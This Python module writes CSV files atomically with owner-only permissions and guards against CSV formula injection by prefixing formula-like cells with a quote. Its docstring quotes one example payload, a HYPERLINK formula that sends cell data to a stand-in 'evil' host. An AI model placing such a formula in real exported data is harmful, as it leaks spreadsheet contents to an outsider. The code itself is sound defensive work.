"""CSV files a spreadsheet can open safely, written atomically and privately.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run
as a formula by Excel, LibreOffice and Google Sheets ("CSV injection"): a contact named
``=HYPERLINK("http://evil/?"&A1,"x")`` would leak the sheet when clicked. Every CSV helpnext
writes goes through :func:`write_csv`, which prefixes such cells with a single quote (the
OWASP advice): the spreadsheet shows the text, and a person reading the file sees why.

Only text cells change; numbers, dates and booleans are written as they are. List and
struct columns are written as JSON text (then neutralised like any other text).
"""

from __future__ import annotations

import json
import os
import tempfile
from pathlib import Path
from typing import Any

import polars as pl

# first characters a spreadsheet treats as the start of a formula
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# a cell is dangerous when it starts with one of these, possibly after blanks
_DANGER = r"^[\t\r]|^[ \n]*[=+\-@]"


def is_formula_like(value: str) -> bool:
    """Would a spreadsheet run this text as a formula?"""
    if not value:
        return False
    if value[0] in FORMULA_STARTS:
        return True
    stripped = value.lstrip(" \n")
    return bool(stripped) and stripped[0] in "=+-@"


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: formula-looking text gets a leading ``'``;
    anything that is not text is returned unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def _as_text(column: pl.Series) -> pl.Series:
    """List / struct / object columns as JSON text (a CSV cell holds one string)."""
    return pl.Series(
        column.name,
        [
            None if v is None else json.dumps(v, default=str, ensure_ascii=False)
            for v in column.to_list()
        ],
        dtype=pl.String,
    )


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text cell neutralised (see :func:`safe_cell`)."""
    nested = [
        name
        for name, dtype in frame.schema.items()
        if isinstance(dtype, pl.List | pl.Array | pl.Struct | pl.Object)
    ]
    if nested:
        frame = frame.with_columns(_as_text(frame.get_column(name)) for name in nested)
    coded = [
        name for name, dtype in frame.schema.items() if isinstance(dtype, pl.Categorical | pl.Enum)
    ]
    if coded:
        frame = frame.with_columns(pl.col(coded).cast(pl.String))
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_DANGER))
        .then(pl.lit(QUOTE) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text
    )


def atomic_write_bytes(path: Path, data: bytes, mode: int = 0o600) -> None:
    """Write ``data`` to ``path`` all at once: a temp file in the same folder, flushed to
    disk, then renamed over ``path``. A crash leaves the old file or the new one."""
    path = Path(path)
    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    try:
        with os.fdopen(fd, "wb") as handle:
            handle.write(data)
            handle.flush()
            os.fsync(handle.fileno())
        os.chmod(tmp, mode)
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise


def write_csv(frame: pl.DataFrame, path: Path | str, mode: int = 0o600) -> Path:
    """Write ``frame`` as UTF-8 CSV to ``path``, atomically, readable by the owner only
    (``mode``), with formula-looking cells neutralised. Returns the path."""
    path = Path(path)
    text = safe_frame(frame).write_csv(datetime_format="%Y-%m-%d %H:%M:%S")
    atomic_write_bytes(path, text.encode("utf-8"), mode)
    return path
